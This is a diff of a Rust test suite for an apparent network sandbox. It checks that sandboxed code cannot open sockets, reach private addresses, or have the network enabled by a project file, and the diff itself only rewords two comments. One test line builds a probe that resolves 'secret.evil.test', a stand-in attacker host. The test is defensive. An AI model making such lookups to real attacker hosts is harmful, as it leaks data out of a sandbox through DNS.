@@ -255,7 +255,7 @@ fn there_is_no_other_way_out() {
         let code = format!("{WAYS}way('name', lambda: socket.getaddrinfo('secret.evil.test', 80))\n");
         let outside = world.run(["--unfenced", "-c", WAYS, "--", &port, &name]);
         let outside: Vec<&str> = outside.ok().lines().collect();
-        // No connection has to be there for a protocol to be put on top of it: the error is another than inside.
+        // Stacking a protocol needs no connection: the error differs from the one inside.
         let expected = "tcp done,tcp6 done,udp done,udp6 done,listen done,abstract done,netlink done";
         assert_eq!(outside[..7].join(","), expected);
         assert_ne!(outside[7], "ulp EPERM");
@@ -292,7 +292,7 @@ fn private_addresses_are_closed_unless_a_person_opened_them() {
         );
         let allowed = format!("127.0.0.1:{}", server.port);
         prints(&run(world, &allowed, &["-c", &code]), "403\n");
-        // Nor does a project's file open them, or switch the network on.
+        // Nor does a project's file allow them, or enable the network.
         world.dir.write("work/ringfence.toml", OPEN);
         prints(&run(world, &allowed, &["-c", &code]), "403\n");
         assert_eq!(server.visits(), 0);
